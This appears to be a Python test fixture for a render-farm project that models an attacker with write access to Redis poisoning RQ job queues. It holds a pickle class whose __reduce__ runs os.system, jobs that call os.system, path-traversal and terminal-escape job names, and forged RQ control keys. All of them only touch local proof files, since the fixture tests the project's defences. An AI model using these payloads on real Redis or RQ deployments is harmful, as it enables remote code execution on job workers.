"""A stranger who can write to Redis, what shows that an attack has worked, and what a limited user may do there."""

import os
import pickle
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import redis
from rq.job import Callback, Job
from rq.registry import ScheduledJobRegistry
from rq.serializers import JSONSerializer
from rq.webhook import Webhook

from photonfarm.shared.queue import QUEUE, job_name
from photonfarm.shared.store import SceneStore

LARGE = 200 << 20
KEY = f"rq:queue:{QUEUE}"
PASSWORD = "hunter2-and-more"

PROOF = """
import os
from pathlib import Path

def mark(name, *_, **__):
    with Path(os.environ["PROOF"], name).open("a") as file:
        file.write("x")

def mark_and_fail(name):
    mark(name)
    raise ValueError(name)

def on_success(*_): mark("success callback")
def on_failure(*_): mark("failure callback")

class Mark:
    @classmethod
    def of_class(cls, name): mark(name)
"""


class Reduced:
    """Unpickled, it runs a command."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (self._command,))


@dataclass
class Field:
    """The place where it happens."""

    scene: SceneStore
    folder: Path
    url: str  # of the administrator, and the stranger
    webhook_url: str
    hits: list[str]
    proofs: dict[str, set[str]] = field(default_factory=dict)  # by who was attacked
    counts: dict[str, int] = field(default_factory=dict)  # how often a plain worker ran what is repeated
    plain_bytes: int = 0  # memory at its peak

    def collect(self, who: str) -> None:
        folder = self.folder / "proof"
        self.proofs[who] = {path.name for path in folder.iterdir()} | set(self.hits)
        for path in folder.iterdir():
            self.counts[path.name] = max(self.counts.get(path.name, 0), path.stat().st_size)
            path.unlink()
        self.hits.clear()

    def touch(self, name: str) -> str:
        return f"touch '{self.folder / 'proof' / name}'"


class Stranger:
    """Writes what a plain RQ client writes, and what it does not, under the names of honest jobs in turn."""

    def __init__(self, where: Field, connection: redis.Redis) -> None:
        self._where = where
        self._connection = connection
        self._number = -1

    def _honest(self) -> str:
        self._number += 1
        return job_name(self._where.scene.scene_id, self._number)

    def _job(self, function: str, *args: object, name: str = "", **options: object) -> Job:
        """A job that a plain worker runs, in the place of an honest one."""
        job = Job.create(
            function, args=args, id=name or self._honest(), connection=self._connection, serializer=JSONSerializer,
            origin=QUEUE, **options,
        )  # fmt: skip
        job.save()
        if name:
            self._connection.rpush(KEY, name)
        return job

    def attack_json(self) -> None:
        """All that works on a worker with JSON."""
        touch = self._where.touch
        self._job("os.system", touch("function"))
        self._job("os.system", touch("stranger"), name="a-stranger")
        self._job("proof.Mark.of_class", "class method")
        self._job("proof.mark", "x", on_success=Callback("proof.on_success"))
        self._job("proof.mark_and_fail", "x", on_failure=Callback("proof.on_failure"))
        self._job("proof.mark", "x", webhooks=[Webhook(self._where.webhook_url, "finished")])
        for name, attribute in (("proof.mark", "repeats_left"), ("proof.mark_and_fail", "retries_left")):
            job = self._job(name, attribute)
            setattr(job, attribute, 2)
            job.repeat_intervals = [0]
            job.save()
        parent = self._job("proof.mark", "x")
        self._connection.sadd(parent.dependents_key, "dependent")
        Job.create(
            "os.system", args=[touch("dependent")], id="dependent", connection=self._connection, origin=QUEUE,
            serializer=JSONSerializer, depends_on=parent.id,
        ).save()  # fmt: skip
        scheduled = Job.create(
            "os.system", args=[touch("scheduled")], id="scheduled", connection=self._connection, origin=QUEUE,
            serializer=JSONSerializer,
        )  # fmt: skip
        scheduled.save()
        self._connection.zadd(ScheduledJobRegistry(QUEUE, self._connection).key, {scheduled.id: 1})
        self.oversized(self._honest())

    def oversized(self, name: str) -> None:
        """Made inside Redis, past the limit of what may be sent."""
        self._connection.eval(
            f"local large = string.rep(string.rep('x', 1048576), {LARGE >> 20}) "
            f"redis.call('HSET', KEYS[1], 'data', large, 'origin', '{QUEUE}')",
            1, f"rq:job:{name}",
        )  # fmt: skip

    def attack_pickle(self) -> None:
        """All that works on a worker with RQ's default, pickle."""
        for field_name in ("data", "result", "meta"):
            evil = pickle.dumps(Reduced(self._where.touch(f"pickled {field_name}")))
            key = f"rq:job:{self._honest()}"
            self._connection.hset(key, mapping={"data": zlib.compress(pickle.dumps(("os.getcwd", None, (), {})))})
            self._connection.hset(key, mapping={field_name: evil, "origin": QUEUE})
        method = pickle.dumps(("touch", self._where.folder / "proof" / "method", (), {}))
        self._connection.hset(f"rq:job:{self._honest()}", mapping={"data": zlib.compress(method), "origin": QUEUE})

    def attack_ours(self) -> None:
        """What can only be aimed at us: names, our own keys, RQ's switches."""
        self._connection.lpush(
            KEY, "../../escaped-0", "/tmp/escaped-1", f"{'.' * 32}-0", "", b"\x80\x04\xff", "0" * 999
        )
        other = "0123456789abcdef" * 2
        self._connection.rpush(KEY, f"{other}-0", job_name(self._where.scene.scene_id, 10**6))
        self._connection.hset(f"rq:job:{self._honest()}", mapping={"data": zlib.compress(b"0" * LARGE)})
        self._connection.set("rq:suspended", 1)
        self._connection.set(f"rq:photonfarm:failed:../../{other}-0", "x")
        self._connection.set("rq:photonfarm:worker:evil", "")
        self._connection.zadd(f"rq:executions:{self._honest()}", {"evil": 2e9})
        self._connection.set("rq:clean_registries:photonfarm", 1)
        self._connection.set("rq:photonfarm:store", "ab" * 16)
        self._connection.set("rq:photonfarm:paused:\x1b]0;owned\x07", "\x1b]0;owned\x07")


def limited_url(connection: redis.Redis, url: str) -> str:
    """A user with the permissions of the compose file."""
    script = (Path(__file__).parents[2] / "docker/redis.sh").read_text()
    (line,) = [line for line in script.splitlines() if line.startswith("user photonfarm ")]
    rules = [rule for rule in line.split()[2:] if not rule.startswith("#")]
    connection.execute_command("ACL", "SETUSER", "photonfarm", "reset", f">{PASSWORD}", *rules)
    return url.replace("unix://", f"unix://photonfarm:{PASSWORD}@")
